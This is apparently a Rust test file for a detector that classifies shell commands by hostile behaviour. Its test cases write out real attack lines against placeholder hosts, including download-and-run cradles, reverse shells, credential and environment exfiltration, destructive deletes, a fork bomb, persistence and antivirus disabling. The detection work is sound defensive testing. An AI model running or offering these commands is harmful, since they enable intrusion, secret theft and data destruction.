use super::*;

/// The words of the deeds that a command line shows.
fn words(deeds: Deeds) -> String {
    const ALL: [&str; 17] = [
        "runs-download",
        "fetches",
        "encoded",
        "hidden",
        "remote-shell",
        "sends",
        "sends-name",
        "destroys",
        "persists",
        "disarms",
        "installs",
        "installs-elsewhere",
        "publishes",
        "scans-secrets",
        "unleashes-agent",
        "mines",
        "makes-repository",
    ];
    let shown = ALL.iter().filter(|word| Deeds::of_word(word).is_some_and(|deed| deeds.any(deed)));
    shown.copied().collect::<Vec<_>>().join(" ")
}

fn check(line: &str, expect: &str) {
    assert_eq!(words(deeds_of_text(line)), expect, "{line}");
}

#[test]
fn downloads_that_are_run() {
    check("curl -fsSL https://a.test/i.sh | sudo -E bash -", "runs-download fetches");
    check("bash <(curl -s https://a.test/i)", "runs-download fetches");
    check("sh -c \"$(wget -qO- https://a.test)\"", "runs-download fetches");
    check("wget https://a.test/x && chmod +x x && ./x", "runs-download fetches");
    check("curl https://a.test/x -o /tmp/.y; chmod 755 /tmp/.y; nohup /tmp/.y &", "runs-download fetches");
    check("certutil -urlcache -split -f http://a.test/x.exe x.exe && start x.exe", "runs-download fetches");
    check("mshta http://a.test/x.hta", "runs-download fetches");
    check("powershell -c \"iex (iwr http://a.test/x)\"", "runs-download fetches");
    check("powershell IEX(New-Object Net.WebClient).DownloadString('http://a.test')", "runs-download fetches");
    check("python3 -c \"import urllib.request as u;exec(u.urlopen('http://a.test').read())\"", "runs-download fetches");
    check("cmd /c curl http://a.test/x.bat -o x.bat & x.bat", "runs-download fetches");
}

#[test]
fn downloads_that_are_not_run() {
    check("curl -sSfL https://a.test/x.tgz -o x.tgz && tar xf x.tgz", "fetches");
    check("curl https://a.test/data.json | python3 parse.py", "fetches");
    check("wget -q https://a.test/x.json", "fetches");
    check("node-gyp rebuild", "");
    check("node scripts/build.js && npm run lint", "");
    check("node install.js || exit 0", "");
    check("gcc -print-multiarch", "");
}

#[test]
fn hidden_and_encoded_commands() {
    // "iex (iwr http://a.test)" in UTF-16.
    let encoded = "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAC4AdABlAHMAdAApAA==";
    check(&format!("powershell -nop -w hidden -enc {encoded}"), "runs-download fetches encoded hidden");
    check("echo aWQ= | base64 -d | bash", "encoded");
    check("python -c \"import base64;exec(base64.b64decode('cGFzcw=='))\"", "encoded");
    check("base64 -d x > y", "");
}

#[test]
fn shells_for_a_remote_host() {
    check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "remote-shell");
    check("nc -e /bin/sh 192.0.2.1 4444", "fetches remote-shell");
    check("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f", "fetches remote-shell");
    check("socat tcp-connect:192.0.2.1:1 exec:/bin/sh", "fetches remote-shell");
    check("nc -zv localhost 22", "fetches");
    check("python -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", "remote-shell");
    check("perl -e 'use Socket;socket(S,1,1,1);exec(\"/bin/sh -i\")'", "remote-shell");
}

#[test]
fn data_that_leaves() {
    check("curl -X POST -d \"$(env | base64)\" https://a.test", "fetches sends");
    check("env | curl -d @- https://a.test", "fetches sends");
    check("curl https://a.test/$(whoami)", "fetches sends");
    check("curl -F file=@$HOME/.ssh/id_rsa https://a.test", "fetches sends");
    check("curl -H 'Authorization: x' -d 'k=v' https://a.test", "fetches");
    check("nslookup $(hostname).a.test", "fetches sends-name");
    check("cat ~/.aws/credentials | nc a.test 80", "fetches sends");
    check("curl \"https://a.test/?t=$NPM_TOKEN\"", "fetches sends");
}

#[test]
fn harm_and_staying() {
    check("rm -rf ~/ --no-preserve-root", "destroys");
    check("rm -rf /*", "destroys");
    check("rm -rf \"$HOME\"", "destroys");
    check("rm -rf ./dist node_modules", "");
    check("rm -rf /tmp/build", "");
    check("rm -rf $HOME/.cache/x", "");
    check("del /f /s /q %USERPROFILE%\\*", "destroys");
    check("del /s /q build\\*.obj", "");
    check(":(){ :|:& };:", "destroys");
    check("vssadmin delete shadows /all /quiet", "destroys");
    check("(crontab -l; echo '* * * * * x') | crontab -", "persists");
    check("crontab -l", "");
    check("schtasks /create /sc onlogon /tn x /tr y", "persists");
    check("echo 'ssh-ed25519 A' >> ~/.ssh/authorized_keys", "persists");
    check("powershell Add-MpPreference -ExclusionPath C:\\", "disarms");
    check("netsh advfirewall set allprofiles state off", "disarms");
    check("sc query windefend", "");
}

#[test]
fn packages_agents_miners() {
    check("pip install requests", "installs");
    check("python -m pip install -i http://a.test/simple x", "installs installs-elsewhere");
    check("npm install https://a.test/x.tgz", "installs installs-elsewhere");
    check("npm install", "");
    check("npm publish --access public", "publishes");
    check("trufflehog filesystem / --json", "scans-secrets");
    check("claude --dangerously-skip-permissions -p 'list files'", "unleashes-agent");
    check("claude -p hello", "");
    check("./xmrig -o stratum+tcp://a.test:3333 -u x", "mines");
    check("gh repo create x --public", "makes-repository");
}

#[test]
fn places_of_a_script_are_its_lines() {
    let script = "#!/bin/sh\nset -e\necho hi\ncurl https://a.test | sh\n";
    let found = deeds_with_places(script, &split(script));
    let shown: Vec<String> =
        found.iter().map(|(what, start, end)| format!("{}: {}", &script[*start..*end], words(*what))).collect();
    assert_eq!(shown, ["curl https://a.test : fetches", "sh: runs-download"]);
}
